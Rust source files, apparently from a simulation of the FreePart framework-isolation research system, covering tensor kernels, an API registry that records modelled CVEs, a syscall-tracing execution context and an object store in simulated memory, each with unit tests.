/// Panics on rank or inner-dimension mismatch.
pub fn matmul(a: &Tensor, b: &Tensor) -> Tensor {
    assert_eq!(a.shape.len(), 2, "matmul wants rank-2 lhs");
    assert_eq!(b.shape.len(), 2, "matmul wants rank-2 rhs");
    assert_eq!(a.shape[1], b.shape[0], "inner dimension mismatch");
    let (m, k, n) = (
        a.shape[0] as usize,
        a.shape[1] as usize,
        b.shape[1] as usize,
    );
    let mut out = Tensor::zeros(&[m as u32, n as u32]);
    for i in 0..m {
        for j in 0..n {
            let mut acc = 0.0;
            for p in 0..k {
                acc += a.data[i * k + p] * b.data[p * n + j];
            }
            out.data[i * n + j] = acc;
        }
    }
    out
}

/// Elementwise ReLU.
pub fn relu(input: &Tensor) -> Tensor {
    Tensor::from_data(
        &input.shape,
        input.data.iter().map(|&v| v.max(0.0)).collect(),
    )
}

/// Elementwise sigmoid.
pub fn sigmoid(input: &Tensor) -> Tensor {
    Tensor::from_data(
        &input.shape,
        input
            .data
            .iter()
            .map(|&v| 1.0 / (1.0 + (-v).exp()))
            .collect(),
    )
}

/// Numerically-stable softmax over the flat data.
pub fn softmax(input: &Tensor) -> Tensor {
    let max = input.data.iter().cloned().fold(f32::NEG_INFINITY, f32::max);
    let exps: Vec<f32> = input.data.iter().map(|&v| (v - max).exp()).collect();
    let sum: f32 = exps.iter().sum();
    Tensor::from_data(&input.shape, exps.iter().map(|&e| e / sum).collect())
}

/// One SGD step on a linear model: returns updated weights given an
/// input/target pair — the "stateful training" kernel the snapshotting
/// machinery (§A.2.4) exercises.
///
/// # Panics
///
/// Panics on shape mismatch between `weights` and `input`.
pub fn sgd_step(weights: &Tensor, input: &Tensor, target: f32, lr: f32) -> Tensor {
    assert_eq!(weights.shape, input.shape, "weights/input mismatch");
    let pred: f32 = weights
        .data
        .iter()
        .zip(&input.data)
        .map(|(w, x)| w * x)
        .sum();
    let err = pred - target;
    Tensor::from_data(
        &weights.shape,
        weights
            .data
            .iter()
            .zip(&input.data)
            .map(|(w, x)| w - lr * err * x)
            .collect(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn zeros_and_from_data_agree_on_len() {
        let t = Tensor::zeros(&[2, 3]);
        assert_eq!(t.len(), 6);
        let u = Tensor::from_data(&[2, 3], vec![1.0; 6]);
        assert_eq!(u.sum(), 6.0);
    }

    #[test]
    #[should_panic(expected = "shape/data mismatch")]
    fn from_data_validates() {
        Tensor::from_data(&[2, 2], vec![0.0; 3]);
    }

    #[test]
    fn byte_roundtrip() {
        let t = Tensor::generate(&[3, 2], |i| i as f32 * 0.5);
        let back = Tensor::from_bytes(&[3, 2], &t.to_bytes());
        assert_eq!(back, t);
    }

    #[test]
    fn conv2d_identity_kernel() {
        let input = Tensor::generate(&[4, 4], |i| i as f32);
        let kernel = Tensor::from_data(&[1, 1], vec![1.0]);
        assert_eq!(conv2d(&input, &kernel), input);
    }

    #[test]
    fn conv2d_box_kernel_sums_window() {
        let input = Tensor::from_data(&[2, 2], vec![1.0, 2.0, 3.0, 4.0]);
        let kernel = Tensor::from_data(&[2, 2], vec![1.0; 4]);
        let out = conv2d(&input, &kernel);
        assert_eq!(out.shape, vec![1, 1]);
        assert_eq!(out.data[0], 10.0);
    }

    #[test]
    fn pooling_max_and_avg() {
        let input = Tensor::from_data(&[2, 2], vec![1.0, 5.0, 3.0, 2.0]);
        assert_eq!(pool2d(&input, 2, PoolKind::Max).data[0], 5.0);
        assert_eq!(pool2d(&input, 2, PoolKind::Avg).data[0], 2.75);
    }

    #[test]
    fn matmul_known_product() {
        let a = Tensor::from_data(&[2, 2], vec![1.0, 2.0, 3.0, 4.0]);
        let b = Tensor::from_data(&[2, 2], vec![5.0, 6.0, 7.0, 8.0]);
        let c = matmul(&a, &b);
        assert_eq!(c.data, vec![19.0, 22.0, 43.0, 50.0]);
    }

    #[test]
    #[should_panic(expected = "inner dimension mismatch")]
    fn matmul_validates_shapes() {
        matmul(&Tensor::zeros(&[2, 3]), &Tensor::zeros(&[2, 3]));
    }

    #[test]
    fn activations() {
        let t = Tensor::from_data(&[3], vec![-1.0, 0.0, 2.0]);
        assert_eq!(relu(&t).data, vec![0.0, 0.0, 2.0]);
        let s = sigmoid(&t);
        assert!(s.data[0] < 0.5 && s.data[2] > 0.5);
        let p = softmax(&t);
        assert!((p.sum() - 1.0).abs() < 1e-6);
        assert_eq!(p.argmax(), 2);
        assert_eq!(t.argmax(), 2);
    }

    #[test]
    fn sgd_step_reduces_error() {
        let w = Tensor::from_data(&[2], vec![0.0, 0.0]);
        let x = Tensor::from_data(&[2], vec![1.0, 1.0]);
        let target = 2.0;
        let mut cur = w;
        for _ in 0..100 {
            cur = sgd_step(&cur, &x, target, 0.1);
        }
        let pred: f32 = cur.data.iter().zip(&x.data).map(|(w, x)| w * x).sum();
        assert!((pred - target).abs() < 0.05, "converged to {pred}");
    }
}
