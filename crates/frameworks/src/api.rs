//! API identities, types, and specifications.
//!
//! Every framework entry point is described by an [`ApiSpec`]: its
//! framework, its execution semantics ([`ApiKind`], interpreted by the
//! `exec` module), its ground-truth [`ApiType`] (the label the hybrid
//! analysis must recover), its syscall profile, its body IR for the
//! static pass, its statefulness/type-neutrality flags (§4.2 "type
//! neutral APIs", §A.2.4 stateful APIs), and the CVEs it is vulnerable
//! to. The [`ApiRegistry`] is the catalog the partitioner, the analyses,
//! and the applications all share.

use crate::ir::IrStmt;
use freepart_simos::SyscallNo;
use std::collections::HashMap;
use std::fmt;

/// The four framework-API types of the paper (§4.1) — one isolated agent
/// process per type.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum ApiType {
    /// Brings bytes from files/devices into memory.
    DataLoading,
    /// Memory-to-memory algorithms.
    DataProcessing,
    /// Presents memory on the GUI / reads GUI state.
    Visualizing,
    /// Writes memory out to files/devices.
    Storing,
}

impl ApiType {
    /// All four types, pipeline order.
    pub const ALL: [ApiType; 4] = [
        ApiType::DataLoading,
        ApiType::DataProcessing,
        ApiType::Visualizing,
        ApiType::Storing,
    ];

    /// Short label used in reports ("DL", "DP", "VZ", "ST").
    pub fn short(self) -> &'static str {
        match self {
            ApiType::DataLoading => "DL",
            ApiType::DataProcessing => "DP",
            ApiType::Visualizing => "VZ",
            ApiType::Storing => "ST",
        }
    }
}

impl fmt::Display for ApiType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            ApiType::DataLoading => "Data Loading",
            ApiType::DataProcessing => "Data Processing",
            ApiType::Visualizing => "Visualizing",
            ApiType::Storing => "Storing",
        };
        f.write_str(s)
    }
}

/// The frameworks modeled by this reproduction.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[allow(missing_docs)]
pub enum Framework {
    OpenCv,
    Caffe,
    PyTorch,
    TensorFlow,
    Keras,
    Pillow,
    NumPy,
    Pandas,
    Json,
    Matplotlib,
    Gtk,
}

impl Framework {
    /// Size of the real framework's public API catalog, for coverage
    /// denominators comparable with the paper's Table 11.
    pub fn catalog_size(self) -> u32 {
        match self {
            Framework::OpenCv => 527,
            Framework::PyTorch => 134,
            Framework::Caffe => 112,
            Framework::TensorFlow => 2704,
            Framework::Keras => 180,
            Framework::Pillow => 120,
            Framework::NumPy => 600,
            Framework::Pandas => 400,
            Framework::Json => 8,
            Framework::Matplotlib => 300,
            Framework::Gtk => 900,
        }
    }

    /// Canonical display name.
    pub fn name(self) -> &'static str {
        match self {
            Framework::OpenCv => "OpenCV",
            Framework::Caffe => "Caffe",
            Framework::PyTorch => "PyTorch",
            Framework::TensorFlow => "TensorFlow",
            Framework::Keras => "Keras",
            Framework::Pillow => "Pillow",
            Framework::NumPy => "NumPy",
            Framework::Pandas => "pandas",
            Framework::Json => "json",
            Framework::Matplotlib => "Matplotlib",
            Framework::Gtk => "GTK",
        }
    }
}

impl fmt::Display for Framework {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Unary image-filter algorithms (the bulk of OpenCV's processing APIs).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum FilterOp {
    Gaussian,
    Box,
    Median,
    Laplacian,
    Sharpen,
    Erode,
    Dilate,
    MorphOpen,
    MorphClose,
    MorphGradient,
    Canny,
    Sobel,
    EqualizeHist,
    Threshold,
    ToGray,
    ToBgr,
    FlipH,
    PyrDown,
    Warp,
    Identity,
}

/// Two-image operations.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum BinaryOp {
    AbsDiff,
    AddWeighted,
}

/// GUI window operations (visualizing type).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum WindowOp {
    Named,
    Move,
    SetTitle,
    DestroyAll,
    PollKey,
    WaitKey,
    MouseWheel,
}

/// Elementwise tensor operations.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum TensorUnaryOp {
    Relu,
    Sigmoid,
    Softmax,
    Argmax,
    Sum,
    Reshape,
}

/// Execution semantics of an API, interpreted by [`crate::exec`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ApiKind {
    /// Load an image file into a `Mat` (`imread`) — syscall-heavy, CVE
    /// hot spot.
    ImRead,
    /// Store a `Mat` to a file (`imwrite`).
    ImWrite,
    /// Present a `Mat` in a window (`imshow`).
    ImShow,
    /// Open a camera capture (`VideoCapture()`), stateful.
    VideoCaptureNew,
    /// Grab the next frame (`VideoCapture.read`).
    VideoCaptureRead,
    /// Append a frame to a video file (`VideoWriter.write`).
    VideoWriterWrite,
    /// Load a cascade/model definition file into a classifier object.
    ClassifierLoad,
    /// Run the sliding-window detector.
    DetectMultiScale,
    /// Unary image filter.
    Filter(FilterOp),
    /// Two-image operation.
    Binary(BinaryOp),
    /// `resize(img, w, h)`.
    Resize,
    /// `crop(img, rect)` / ROI extraction.
    Crop,
    /// Draw a rectangle outline in place.
    DrawRect,
    /// Stamp text in place.
    PutText,
    /// Connected components → rects.
    FindContours,
    /// Image → scalar statistic (mean & friends).
    Reduce,
    /// GUI window management / input.
    Window(WindowOp),
    /// Load a tensor/model file into memory.
    TensorLoad,
    /// Save a tensor/model to a file.
    TensorSave,
    /// Elementwise tensor op.
    TensorUnary(TensorUnaryOp),
    /// Valid 2-D convolution with a stored kernel.
    TensorConv,
    /// Max pooling with window 2.
    TensorPoolMax,
    /// Avg pooling with window 2.
    TensorPoolAvg,
    /// Matrix multiply with a stored weight matrix.
    TensorMatmul,
    /// Full forward pass: conv → relu → pool → matmul.
    Forward,
    /// One SGD step (stateful: updates the weight object in place).
    TrainStep,
    /// Construct a tensor from bytes/values in memory.
    TensorNew,
    /// Download to a temp file, then read it back
    /// (`tf.keras.utils.get_file` — the MEM-copy-via-FILE case).
    DownloadViaFile,
    /// Read a directory of image files into one tensor batch.
    DatasetLoad,
    /// Parse a CSV file into a `Table`.
    ReadCsv,
    /// Write a `Table` out as CSV.
    WriteCsv,
    /// Parse a JSON file into memory.
    JsonLoad,
    /// Serialize memory to a JSON file.
    JsonDump,
    /// Render current plot state to the GUI (`plt.show`).
    PlotShow,
    /// Render current plot state to a file (`plt.savefig`).
    PlotSavefig,
    /// Append a series to plot state (`plt.plot`).
    PlotAdd,
    /// Write a summary/log entry (`SummaryWriter`).
    SummaryWrite,
    /// Type-neutral allocator utility (`cvAlloc`,
    /// `cvCreateMemStorage`).
    AllocUtil,
    /// Read retained GUI state (GTK recent files, etc.), stateful.
    GuiStateRead,
}

/// Index of an API in its registry.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ApiId(pub u16);

impl fmt::Display for ApiId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "api{}", self.0)
    }
}

/// Full description of one framework API.
#[derive(Debug, Clone)]
pub struct ApiSpec {
    /// Registry index.
    pub id: ApiId,
    /// Qualified name (`cv2.imread`, `torch.save`, ...).
    pub name: String,
    /// Owning framework.
    pub framework: Framework,
    /// Execution semantics.
    pub kind: ApiKind,
    /// Ground-truth type (what the hybrid analysis should recover).
    pub declared_type: ApiType,
    /// True for memory-to-memory utilities whose partition follows the
    /// calling context (§4.2 "Type-neutral Framework APIs").
    pub type_neutral: bool,
    /// True when the API keeps internal state across calls (§A.2.4).
    pub stateful: bool,
    /// CVE identifiers this API is vulnerable to.
    pub vulns: Vec<String>,
    /// Syscalls the API's implementation requires.
    pub syscall_profile: Vec<SyscallNo>,
    /// Relative compute weight (work units per KiB of input).
    pub work_factor: u64,
    /// Body IR consumed by the static analyzer.
    pub ir: Vec<IrStmt>,
}

impl ApiSpec {
    /// True when the API is vulnerable to `cve`.
    pub fn vulnerable_to(&self, cve: &str) -> bool {
        self.vulns.iter().any(|v| v == cve)
    }
}

/// The shared API catalog.
#[derive(Debug, Default)]
pub struct ApiRegistry {
    specs: Vec<ApiSpec>,
    by_name: HashMap<String, ApiId>,
}

impl ApiRegistry {
    /// An empty registry (the standard catalog lives in
    /// [`crate::registry::standard_registry`]).
    pub fn new() -> ApiRegistry {
        ApiRegistry::default()
    }

    /// Registers a spec, assigning its id.
    ///
    /// # Panics
    ///
    /// Panics on duplicate API names — the catalog is keyed by name.
    pub fn register(&mut self, mut spec: ApiSpec) -> ApiId {
        let id = ApiId(self.specs.len() as u16);
        spec.id = id;
        let prior = self.by_name.insert(spec.name.clone(), id);
        assert!(prior.is_none(), "duplicate API name {}", spec.name);
        self.specs.push(spec);
        id
    }

    /// Spec by id.
    ///
    /// # Panics
    ///
    /// Panics on an id from a different registry.
    pub fn spec(&self, id: ApiId) -> &ApiSpec {
        &self.specs[id.0 as usize]
    }

    /// Spec lookup by qualified name.
    pub fn by_name(&self, name: &str) -> Option<&ApiSpec> {
        self.by_name.get(name).map(|id| self.spec(*id))
    }

    /// Id lookup by qualified name.
    pub fn id_of(&self, name: &str) -> Option<ApiId> {
        self.by_name.get(name).copied()
    }

    /// Every spec.
    pub fn iter(&self) -> impl Iterator<Item = &ApiSpec> {
        self.specs.iter()
    }

    /// Number of registered APIs.
    pub fn len(&self) -> usize {
        self.specs.len()
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.specs.is_empty()
    }

    /// All APIs of one framework.
    pub fn of_framework(&self, fw: Framework) -> Vec<&ApiSpec> {
        self.specs.iter().filter(|s| s.framework == fw).collect()
    }

    /// All APIs of one declared type.
    pub fn of_type(&self, t: ApiType) -> Vec<&ApiSpec> {
        self.specs.iter().filter(|s| s.declared_type == t).collect()
    }

    /// All APIs vulnerable to at least one CVE.
    pub fn vulnerable(&self) -> Vec<&ApiSpec> {
        self.specs.iter().filter(|s| !s.vulns.is_empty()).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ir::build;

    fn dummy_spec(name: &str) -> ApiSpec {
        ApiSpec {
            id: ApiId(0),
            name: name.to_owned(),
            framework: Framework::OpenCv,
            kind: ApiKind::Filter(FilterOp::Gaussian),
            declared_type: ApiType::DataProcessing,
            type_neutral: false,
            stateful: false,
            vulns: vec!["CVE-X".into()],
            syscall_profile: vec![SyscallNo::Brk],
            work_factor: 3,
            ir: build::process_in_memory(),
        }
    }

    #[test]
    fn register_and_lookup() {
        let mut reg = ApiRegistry::new();
        let id = reg.register(dummy_spec("cv2.test"));
        assert_eq!(reg.spec(id).name, "cv2.test");
        assert_eq!(reg.id_of("cv2.test"), Some(id));
        assert!(reg.by_name("missing").is_none());
        assert_eq!(reg.len(), 1);
    }

    #[test]
    #[should_panic(expected = "duplicate API name")]
    fn duplicate_names_rejected() {
        let mut reg = ApiRegistry::new();
        reg.register(dummy_spec("cv2.dup"));
        reg.register(dummy_spec("cv2.dup"));
    }

    #[test]
    fn filters_by_framework_type_and_vulnerability() {
        let mut reg = ApiRegistry::new();
        reg.register(dummy_spec("a"));
        let mut clean = dummy_spec("b");
        clean.vulns.clear();
        clean.declared_type = ApiType::Storing;
        reg.register(clean);
        assert_eq!(reg.of_framework(Framework::OpenCv).len(), 2);
        assert_eq!(reg.of_type(ApiType::Storing).len(), 1);
        assert_eq!(reg.vulnerable().len(), 1);
        assert!(reg.spec(ApiId(0)).vulnerable_to("CVE-X"));
        assert!(!reg.spec(ApiId(0)).vulnerable_to("CVE-Y"));
    }

    #[test]
    fn api_type_labels() {
        assert_eq!(ApiType::DataLoading.short(), "DL");
        assert_eq!(ApiType::ALL.len(), 4);
        assert_eq!(ApiType::Visualizing.to_string(), "Visualizing");
    }

    #[test]
    fn framework_catalog_sizes_match_paper_denominators() {
        assert_eq!(Framework::OpenCv.catalog_size(), 527);
        assert_eq!(Framework::PyTorch.catalog_size(), 134);
        assert_eq!(Framework::Caffe.catalog_size(), 112);
        assert_eq!(Framework::TensorFlow.catalog_size(), 2704);
    }
}
