//! # freepart-frameworks — synthetic data-processing frameworks
//!
//! Stand-ins for OpenCV, Caffe, PyTorch, TensorFlow (plus the secondary
//! frameworks the paper's applications touch: Keras, Pillow, NumPy,
//! pandas, json, Matplotlib, GTK). Each framework exposes APIs that:
//!
//! * do **real work** — pixel algorithms ([`image`]), tensor kernels
//!   ([`tensor`]), file parsing ([`fileio`]) — on buffers living in
//!   simulated process memory;
//! * issue **real (simulated) syscalls** through an [`ApiCtx`], so
//!   syscall filters and page permissions mediate them;
//! * carry a **machine-readable body IR** ([`ir`]) for the static
//!   analyzer and emit **dynamic traces** for the runtime analyzer;
//! * can be **vulnerable**: crafted files smuggle [`exploit`] payloads
//!   that run in whatever process the API executes in.
//!
//! ## Quick tour
//!
//! ```
//! use freepart_frameworks::{exec, registry, ApiCtx, ObjectStore, Value};
//! use freepart_frameworks::fileio;
//! use freepart_frameworks::image::Image;
//! use freepart_simos::Kernel;
//!
//! let reg = registry::standard_registry();
//! let mut kernel = Kernel::new();
//! let pid = kernel.spawn("host");
//! let mut objects = ObjectStore::new();
//!
//! // Seed an image file and run `cv2.imread` + `cv2.GaussianBlur`.
//! kernel.fs.put("/in.simg", fileio::encode_image(&Image::new(8, 8, 3), None));
//! let imread = reg.id_of("cv2.imread").unwrap();
//! let blur = reg.id_of("cv2.GaussianBlur").unwrap();
//!
//! let mut ctx = ApiCtx::new(&mut kernel, &mut objects, pid);
//! let img = exec::execute(&reg, imread, &[Value::from("/in.simg")], &mut ctx).unwrap();
//! let _smoothed = exec::execute(&reg, blur, &[img], &mut ctx).unwrap();
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod api;
pub mod ctx;
pub mod exec;
pub mod exploit;
pub mod fileio;
pub mod image;
pub mod ir;
pub mod object;
pub mod registry;
pub mod tensor;
pub mod value;

pub use api::{ApiId, ApiKind, ApiRegistry, ApiSpec, ApiType, Framework};
pub use ctx::{ApiCtx, Trace};
pub use exec::{execute, FrameworkError};
pub use exploit::{ActionOutcome, ActionReport, ExploitAction, ExploitPayload};
pub use ir::{FlowOp, IrStmt, Storage};
pub use object::{ObjectId, ObjectKind, ObjectMeta, ObjectStore};
pub use value::Value;
