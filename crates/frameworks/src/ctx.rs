//! Per-call execution context for framework APIs.
//!
//! Every API invocation runs inside an [`ApiCtx`] that binds the kernel,
//! the object store, and — critically — the **pid the API body executes
//! as**. All memory traffic and syscalls the body performs are attributed
//! to that pid and mediated by its page permissions and syscall filter;
//! swapping the pid is how an isolation runtime moves an API into an
//! agent process.
//!
//! The context doubles as the dynamic-analysis tap: with tracing enabled
//! it records the concrete [`FlowOp`]s and syscalls the body performed,
//! which is exactly the evidence the paper's dynamic categorization pass
//! collects.

use crate::exploit::ActionReport;
use crate::ir::FlowOp;
use crate::object::ObjectStore;
use freepart_simos::{Kernel, Pid, SimResult, Syscall, SyscallNo, SyscallRet};

/// Dynamic trace of one API execution: observed data flows + syscalls.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Trace {
    /// Data-transfer operations in execution order.
    pub flows: Vec<FlowOp>,
    /// Syscall numbers in execution order.
    pub syscalls: Vec<SyscallNo>,
}

/// Execution context for one framework-API call.
#[derive(Debug)]
pub struct ApiCtx<'a> {
    /// The kernel mediating everything.
    pub kernel: &'a mut Kernel,
    /// Live framework objects.
    pub objects: &'a mut ObjectStore,
    /// The process this API body runs as.
    pub pid: Pid,
    /// Dynamic-analysis trace, when enabled.
    pub trace: Option<Trace>,
    /// Reports from exploit payloads that fired during this call.
    pub exploit_log: Vec<ActionReport>,
    /// Compute units charged through this context (observability tap:
    /// lets a caller split a call's virtual time into compute vs
    /// data-plane without re-deriving the cost model).
    pub compute_units: u64,
}

impl<'a> ApiCtx<'a> {
    /// A context without tracing.
    pub fn new(kernel: &'a mut Kernel, objects: &'a mut ObjectStore, pid: Pid) -> ApiCtx<'a> {
        ApiCtx {
            kernel,
            objects,
            pid,
            trace: None,
            exploit_log: Vec::new(),
            compute_units: 0,
        }
    }

    /// A context with dynamic-analysis tracing enabled.
    pub fn traced(kernel: &'a mut Kernel, objects: &'a mut ObjectStore, pid: Pid) -> ApiCtx<'a> {
        ApiCtx {
            trace: Some(Trace::default()),
            ..ApiCtx::new(kernel, objects, pid)
        }
    }

    /// Issues a syscall as the current process, recording it in the
    /// trace when tracing is on.
    ///
    /// # Errors
    ///
    /// Propagates kernel errors, including filter kills.
    pub fn syscall(&mut self, call: Syscall) -> SimResult<SyscallRet> {
        if let Some(t) = &mut self.trace {
            t.syscalls.push(call.number());
        }
        self.kernel.syscall(self.pid, call)
    }

    /// Records an observed data-flow operation (API bodies call this at
    /// each semantic transfer point).
    pub fn record_flow(&mut self, op: FlowOp) {
        if let Some(t) = &mut self.trace {
            t.flows.push(op);
        }
    }

    /// Charges `units` of compute to the current process.
    pub fn charge_compute(&mut self, units: u64) {
        self.compute_units += units;
        self.kernel.charge_compute(self.pid, units);
    }

    /// Takes the trace out of the context (after a traced run).
    pub fn take_trace(&mut self) -> Option<Trace> {
        self.trace.take()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ir::Storage;

    #[test]
    fn traced_context_records_syscalls_and_flows() {
        let mut k = Kernel::new();
        let pid = k.spawn("p");
        let mut store = ObjectStore::new();
        let mut ctx = ApiCtx::traced(&mut k, &mut store, pid);
        ctx.syscall(Syscall::Getpid).unwrap();
        ctx.record_flow(FlowOp::write(Storage::Mem, Storage::File));
        let t = ctx.take_trace().unwrap();
        assert_eq!(t.syscalls, vec![SyscallNo::Getpid]);
        assert_eq!(t.flows, vec![FlowOp::write(Storage::Mem, Storage::File)]);
        assert!(ctx.trace.is_none());
    }

    #[test]
    fn untraced_context_records_nothing() {
        let mut k = Kernel::new();
        let pid = k.spawn("p");
        let mut store = ObjectStore::new();
        let mut ctx = ApiCtx::new(&mut k, &mut store, pid);
        ctx.syscall(Syscall::Getpid).unwrap();
        ctx.record_flow(FlowOp::Read(Storage::Gui));
        assert!(ctx.take_trace().is_none());
    }

    #[test]
    fn compute_charges_to_context_pid() {
        let mut k = Kernel::new();
        let pid = k.spawn("p");
        let mut store = ObjectStore::new();
        let mut ctx = ApiCtx::new(&mut k, &mut store, pid);
        ctx.charge_compute(500);
        assert_eq!(ctx.compute_units, 500);
        assert!(k.process(pid).unwrap().cpu_ns > 0);
    }
}
