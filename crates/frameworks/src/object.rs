//! Framework data objects and the object store.
//!
//! Framework APIs exchange *objects* — images (`Mat`), tensors, models,
//! captures, tables, windows. An object's metadata lives in the
//! [`ObjectStore`] (the simulation's stand-in for the object header), but
//! its **payload bytes live in simulated process memory**, which is what
//! makes FreePart's page-permission enforcement and cross-process
//! isolation meaningful: an exploit can only touch buffers mapped — and
//! writable — in its own process.
//!
//! The store also implements the two data-movement strategies the paper
//! compares: eager deep copy through the host process and direct
//! agent-to-agent transfer (the Lazy Data Copy fast path).

use freepart_simos::{Addr, Kernel, Perms, Pid, ShmId, SimError, WindowId};
use std::collections::BTreeMap;
use std::fmt;

/// Identifier of a framework object.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ObjectId(pub u64);

impl fmt::Display for ObjectId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "obj{}", self.0)
    }
}

/// What kind of framework object this is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ObjectKind {
    /// An image matrix (`cv::Mat`): height × width × channels bytes.
    Mat {
        /// Width in pixels.
        w: u32,
        /// Height in pixels.
        h: u32,
        /// Channels (1 = gray, 3 = BGR).
        ch: u32,
    },
    /// An n-dimensional tensor of `f32` values.
    Tensor {
        /// Dimension sizes, outermost first.
        shape: Vec<u32>,
    },
    /// A loaded model (weights tensor + layer count).
    Model {
        /// Number of layers.
        layers: u32,
    },
    /// A video/camera capture handle (stateful: frame cursor).
    Capture {
        /// Frames served so far — state that must survive restarts.
        frames_read: u64,
    },
    /// A trained cascade classifier.
    Classifier {
        /// Number of boosting stages.
        stages: u32,
    },
    /// A tabular dataset (CSV-backed).
    Table {
        /// Row count.
        rows: u32,
        /// Column count.
        cols: u32,
    },
    /// A GUI window handle.
    Window {
        /// Display-subsystem window id.
        id: WindowId,
    },
    /// An opaque byte blob (serialized state, protos, plots).
    Blob,
}

impl ObjectKind {
    /// Payload length in bytes implied by the kind, where fixed.
    pub fn natural_len(&self) -> Option<u64> {
        match self {
            ObjectKind::Mat { w, h, ch } => Some(*w as u64 * *h as u64 * *ch as u64),
            ObjectKind::Tensor { shape } => {
                Some(4 * shape.iter().map(|d| *d as u64).product::<u64>())
            }
            _ => None,
        }
    }
}

/// Metadata for one live object.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ObjectMeta {
    /// The object's identity.
    pub id: ObjectId,
    /// Structural kind.
    pub kind: ObjectKind,
    /// Process whose address space holds the payload.
    pub home: Pid,
    /// Payload location in `home`'s address space (`None` for
    /// buffer-less objects like windows, and for shm-resident payloads).
    pub buffer: Option<(Addr, u64)>,
    /// Kernel-owned shared-memory residency `(segment, len)`: set once
    /// the payload has been promoted out of private memory by the `Shm`
    /// transport. Mutually exclusive with `buffer`. `home` then tracks
    /// the process currently *using* the payload (for routing and
    /// temporal-permission decisions), not where the bytes live.
    pub shm: Option<(ShmId, u64)>,
    /// Human-readable tag ("template", "OMRCrop", ...), used by the
    /// protection annotations and the evaluation reports.
    pub label: String,
    /// Exploit payload riding along in malformed content (a crafted file
    /// decoded by a *patched* loader still yields malformed data that can
    /// trigger a CVE in a downstream processing API).
    pub taint: Option<crate::exploit::ExploitPayload>,
}

impl ObjectMeta {
    /// Payload length (0 for buffer-less objects).
    pub fn len(&self) -> u64 {
        self.buffer
            .map_or_else(|| self.shm.map_or(0, |(_, l)| l), |(_, l)| l)
    }

    /// True when the object carries no payload at all (neither a private
    /// buffer nor a shared-memory segment).
    pub fn is_empty(&self) -> bool {
        self.buffer.is_none() && self.shm.is_none()
    }
}

/// Central table of live framework objects.
///
/// # Example
///
/// ```
/// use freepart_simos::Kernel;
/// use freepart_frameworks::object::{ObjectKind, ObjectStore};
///
/// let mut k = Kernel::new();
/// let pid = k.spawn("host");
/// let mut store = ObjectStore::new();
/// let id = store
///     .create_with_data(&mut k, pid, ObjectKind::Mat { w: 2, h: 2, ch: 1 }, "img", &[1, 2, 3, 4])
///     .unwrap();
/// assert_eq!(store.read_bytes(&mut k, id).unwrap(), vec![1, 2, 3, 4]);
/// ```
#[derive(Debug, Default)]
pub struct ObjectStore {
    next: u64,
    objects: BTreeMap<ObjectId, ObjectMeta>,
}

impl ObjectStore {
    /// An empty store.
    pub fn new() -> ObjectStore {
        ObjectStore::default()
    }

    /// Registers a buffer-less object (e.g. a window handle).
    pub fn create_handle(&mut self, home: Pid, kind: ObjectKind, label: &str) -> ObjectId {
        let id = ObjectId(self.next);
        self.next += 1;
        self.objects.insert(
            id,
            ObjectMeta {
                id,
                kind,
                home,
                buffer: None,
                shm: None,
                label: label.to_owned(),
                taint: None,
            },
        );
        id
    }

    /// Allocates a payload buffer in `home` and registers the object.
    pub fn create_with_data(
        &mut self,
        kernel: &mut Kernel,
        home: Pid,
        kind: ObjectKind,
        label: &str,
        data: &[u8],
    ) -> Result<ObjectId, SimError> {
        let len = data.len().max(1) as u64;
        let addr = kernel.alloc(home, len, Perms::RW)?;
        kernel.mem_write(home, addr, data)?;
        let id = ObjectId(self.next);
        self.next += 1;
        self.objects.insert(
            id,
            ObjectMeta {
                id,
                kind,
                home,
                buffer: Some((addr, data.len() as u64)),
                shm: None,
                label: label.to_owned(),
                taint: None,
            },
        );
        Ok(id)
    }

    /// Looks up an object's metadata.
    pub fn meta(&self, id: ObjectId) -> Option<&ObjectMeta> {
        self.objects.get(&id)
    }

    /// Mutable metadata access (kind updates for stateful objects).
    pub fn meta_mut(&mut self, id: ObjectId) -> Option<&mut ObjectMeta> {
        self.objects.get_mut(&id)
    }

    /// Relabels an object (host-side annotation of critical data).
    pub fn set_label(&mut self, id: ObjectId, label: &str) {
        if let Some(m) = self.objects.get_mut(&id) {
            m.label = label.to_owned();
        }
    }

    /// Finds the first live object with the given label.
    pub fn find_by_label(&self, label: &str) -> Option<&ObjectMeta> {
        self.objects.values().find(|m| m.label == label)
    }

    /// Reads the full payload of an object *through the kernel* (so page
    /// permissions apply to the reading process's view — here the home
    /// process reads its own buffer).
    pub fn read_bytes(&self, kernel: &mut Kernel, id: ObjectId) -> Result<Vec<u8>, SimError> {
        let meta = self
            .objects
            .get(&id)
            .ok_or(SimError::BadChannel)
            .expect("object id must be live");
        if let Some((seg, _)) = meta.shm {
            return kernel.shm_read(meta.home, seg);
        }
        match meta.buffer {
            Some((addr, len)) => kernel.mem_read(meta.home, addr, len),
            None => Ok(Vec::new()),
        }
    }

